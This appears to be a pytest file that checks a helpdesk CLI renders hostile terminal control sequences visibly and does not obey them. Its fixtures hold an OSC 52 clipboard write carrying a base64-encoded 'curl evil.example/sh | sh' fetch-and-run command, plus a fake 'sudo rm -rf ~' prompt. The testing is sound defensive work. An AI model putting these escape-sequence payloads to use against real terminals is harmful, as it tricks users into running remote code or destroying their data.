"""Issue 17 item 4: a helpdesk's control sequences reach the terminal shown, never obeyed.

A helpdesk (here Helpline's own "http" protocol, docs/openapi/helpline-backend.yaml) answers
with a subject, a reply and an error sentence carrying a screen clear (``ESC [2J``), an
OSC 52 clipboard write (``ESC ]52;c;… BEL``), an 8-bit CSI (U+009B), a carriage return that
would overwrite the line with a fake prompt, and a right-to-left override (U+202E).
``helpline list``, ``show`` and the error line are run as a person runs them, in a
subprocess; not one of those characters may reach stdout or stderr.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler

import pytest

from tests.cli.helpers import run
from tests.hostile.server import HostileServer, reply

CLEAR = "\x1b[2J\x1b[H"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"
FAKE_PROMPT = "\r$ sudo rm -rf ~ "
HOSTILE = f"{CLEAR}Printer{CLIPBOARD} jams \u202eexe.txt\u009b31m{FAKE_PROMPT}\u2066x\u2069\u200f"
# What a terminal obeys: C0 but newline and tab, DEL, C1, and the bidi controls.
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

TICKET = {
    "id": "7",
    "subject": HOSTILE,
    "status": "open",
    "created_at": "2026-12-01T09:00:00+00:00",
    "updated_at": "2026-12-01T10:00:00+00:00",
}
MESSAGE = {
    "id": "m1",
    "ticket_id": "7",
    "author": f"Support{CLEAR}",
    "from_requester": False,
    "body": f"Please restart.\r\n{HOSTILE}\r\nRegards",
    "created_at": "2026-12-01T10:00:00+00:00",
}


def _json(body: object, status: int = 200):
    def respond(handler: BaseHTTPRequestHandler) -> None:
        reply(handler, status, json.dumps(body).encode())

    return respond


@pytest.fixture
def helpdesk() -> Iterator[HostileServer]:
    with HostileServer() as server:
        server.on("GET", "/v1/tickets", _json({"tickets": [TICKET]}))
        server.on("GET", "/v1/tickets/7", _json(TICKET))
        server.on("GET", "/v1/tickets/7/messages", _json({"messages": [MESSAGE]}))
        server.on("GET", "/v1/tickets/8", _json({"error": {"code": "x", "message": HOSTILE}}, 400))
        yield server


def _cli(env: dict[str, str], server: HostileServer, *args: str):
    env = {**env, "HOSTILE_TOKEN": "tok-hostile"}
    return run(
        env,
        "--set",
        "backend.type=http",
        "--set",
        f"backend.url={server.url}",
        "--set",
        "backend.token_env=HOSTILE_TOKEN",
        *args,
    )


def _assert_shown_not_obeyed(text: str) -> None:
    found = sorted({f"U+{ord(c):04X}" for c in OBEYED.findall(text)})
    assert not found, f"reached the terminal raw: {found}\n{text!r}"


def test_list_and_show_print_the_helpdesks_controls_visibly(helpline_env, helpdesk):
    listed = _cli(helpline_env, helpdesk, "list")
    shown = _cli(helpline_env, helpdesk, "show", "7")
    for proc in (listed, shown):
        assert proc.returncode == 0, proc.stderr
        _assert_shown_not_obeyed(proc.stdout)
        _assert_shown_not_obeyed(proc.stderr)
    # Shown, not silently dropped: the person can see something odd was sent.
    assert "\\x1b[2J" in shown.stdout and "<U+202E>" in shown.stdout
    assert "\\x1b]52;c;" in shown.stdout and "\\x07" in shown.stdout
    assert "\\x9b31m" in shown.stdout and "\\x0d$ sudo" in shown.stdout
    assert "Please restart.\n" in shown.stdout  # a CRLF line end is still a line end
    assert "\\x1b[2J" in listed.stdout


def test_the_error_line_prints_the_helpdesks_sentence_visibly(helpline_env, helpdesk):
    proc = _cli(helpline_env, helpdesk, "show", "8")
    assert proc.returncode != 0
    _assert_shown_not_obeyed(proc.stdout)
    _assert_shown_not_obeyed(proc.stderr)
    assert "Printer" in proc.stderr  # the helpdesk's own words are quoted, made visible


def test_json_stays_json_with_nothing_a_terminal_obeys(helpline_env, helpdesk):
    proc = _cli(helpline_env, helpdesk, "show", "7", "--json")
    assert proc.returncode == 0, proc.stderr
    _assert_shown_not_obeyed(proc.stdout)
    assert json.loads(proc.stdout)["ticket"]["subject"] == HOSTILE  # same value to a parser
